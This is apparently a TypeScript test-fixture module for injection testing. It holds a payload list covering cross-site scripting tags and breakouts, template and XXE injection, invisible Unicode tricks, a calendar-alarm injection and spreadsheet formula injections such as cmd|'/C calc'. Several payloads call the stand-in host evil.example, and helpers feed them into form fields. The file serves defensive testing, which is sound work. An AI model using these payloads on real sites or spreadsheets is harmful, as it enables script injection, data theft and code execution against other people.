/**
 * What somebody types to get a program into other people's pages, tables, feeds and calendars. Each that runs says so by
 * `__pwned`, by a dialog, or by asking a foreign host.
 */

export interface Payload {
  readonly text: string;
  /** What a reader sees of it where that is not the text: marks that reorder or split words around them are dropped. */
  readonly shown?: string;
}

/** A host that is never asked for anything; reserved for documentation (RFC 2606). */
export const FOREIGN_HOST = "evil.example";

const plain = (...texts: readonly string[]): readonly Payload[] => texts.map((text) => ({ text }));

const ELEMENTS = plain(
  "<script>__pwned=1</script>",
  "<ScRiPt>alert(2)</sCrIpT>",
  "<script src=//evil.example/3></script>",
  "<script/x>__pwned=4</script >",
  "<<script>__pwned=5//<</script>",
  "<img src=x onerror=__pwned=6>",
  "<img/src=x/onerror=alert(7)>",
  "<svg onload=__pwned=8>",
  "<svg><script>__pwned=9</script></svg>",
  "<svg><animate onbegin=alert(10) attributeName=x dur=1s>",
  "<svg><a xlink:href='javascript:alert(11)'><text y=9>甲</text></a></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(12)>",
  "<math href='javascript:alert(13)'>乙</math>",
  "<iframe src='javascript:parent.__pwned=14'></iframe>",
  "<iframe srcdoc='<script>parent.__pwned=15</script>'></iframe>",
  "<object data='data:text/html,<script>alert(16)</script>'></object>",
  "<embed src='//evil.example/17'>",
  "<base href='//evil.example/'>",
  "<meta http-equiv=refresh content='0;url=//evil.example/19'>",
  "<link rel=stylesheet href='//evil.example/20'>",
  "<style>@import '//evil.example/21';</style>",
  "<form action='//evil.example/22'><button>丙</button></form>",
  "<details open ontoggle=alert(23)>",
  "<video><source onerror=alert(24)></video>",
  "<a href='javascript:alert(25)'>丁</a>",
  "<a href='JaVaScRiPt&colon;alert(26)'>戊</a>",
  "<a href='data:text/html,<script>alert(27)</script>'>己</a>",
  "<p style='background:url(//evil.example/28)'>庚",
  "<input autofocus onfocus=alert(29)>",
  "<div id=document name=cookie>辛</div>",
);

const BREAKOUTS = plain(
  '"><script>__pwned=31</script>',
  "'><img src=x onerror=__pwned=32>",
  '" autofocus onfocus=alert(33) x="',
  "' onmouseover='alert(34)",
  "`onload=alert(35)`",
  "</title><script>__pwned=36</script>",
  "</textarea><script>__pwned=37</script>",
  "</style></script><script>alert(38)</script>",
  "--><script>__pwned=39</script><!--",
  "]]><script>__pwned=40</script><![CDATA[",
  "</script><!--<script>alert(41)",
  '");alert(42);("',
  "\\u003cscript\\u003ealert(43)\\u003c/script\\u003e",
  "${alert(44)}{{7*7}}<%=7*7%>#{7*7}",
  "{{constructor.constructor('alert(45)')()}}",
  "&lt;script&gt;alert(46)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(47)&#62;",
  "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM '//evil.example/48'>]>&b;",
  "javascript:/*--></title></style></textarea></script><svg/onload='/*'/**/alert(49)//'>",
  "\u0130<\u0130img src=x onerror=alert(50)>",
);

const INVISIBLE: readonly Payload[] = [
  { text: "公告\u202egpj.exe\u202c终", shown: "公告gpj.exe终" },
  { text: "甲\u2066\u2067<b>乙</b>\u2069\u200b\ufeff", shown: "甲<b>乙</b>" },
  { text: "行\u2028__pwned=53\u2029尾", shown: "行 __pwned=53 尾" },
  {
    text: "标题\r\nBEGIN:VALARM\r\nATTACH:http://evil.example/54",
    shown: "标题 BEGIN:VALARM ATTACH:http://evil.example/54",
  },
];

/** The beginnings that a spreadsheet program takes for a formula, also in the full width of Chinese typing (OWASP). */
export const STARTS_FORMULA = /^[=+\-@＝＋－＠\t\r\n]/u;

const FORMULAS = plain(
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  "+1+cmd|'/C calc'!A0",
  '-1+HYPERLINK("http://evil.example/58")',
  '＝HYPERLINK("http://evil.example/59")',
  "＠SUM(1,1)",
);

export const PAYLOADS: readonly Payload[] = [...ELEMENTS, ...BREAKOUTS, ...INVISIBLE, ...FORMULAS];

const INVISIBLE_SHOWN = INVISIBLE.map(({ text, shown = text }) => [text.replaceAll("\r\n", "\n"), shown] as const);

/** What a reader must see of a text that holds payloads: as a page draws it, any number of blanks is one. */
export const drawn = (text: string): string =>
  INVISIBLE_SHOWN.reduce((rest, [from, to]) => rest.replaceAll(from, to), text.replaceAll("\r\n", "\n"))
    .replace(/\s+/gu, " ")
    .trim();

/** All payloads in as few texts as a field of so many characters needs. */
export function batches(length: number): readonly string[] {
  const made: string[] = [];
  for (const { text } of PAYLOADS) {
    const longer = `${made.at(-1) ?? ""}\n${text}`;
    if (made.length > 0 && longer.length <= length) made[made.length - 1] = longer;
    else made.push(text);
  }
  return made;
}

/** The next payload for a field that takes no more and no fewer characters. */
export type Turn = (longest: number, shortest?: number) => string;

/** Goes through the payloads from the one at `first` on; after the last comes the first again. */
export function payloadsInTurn(first = 0): Turn {
  const all = PAYLOADS.map(({ text }) => text);
  let waiting = [...all.slice(first), ...all.slice(0, first)];
  return (longest, shortest = 0) => {
    const fits = (text: string) => text.length <= longest && text.length >= shortest;
    if (!waiting.some(fits)) waiting = [...waiting, ...all];
    const [text = ""] = waiting.splice(waiting.findIndex(fits), 1);
    return text;
  };
}
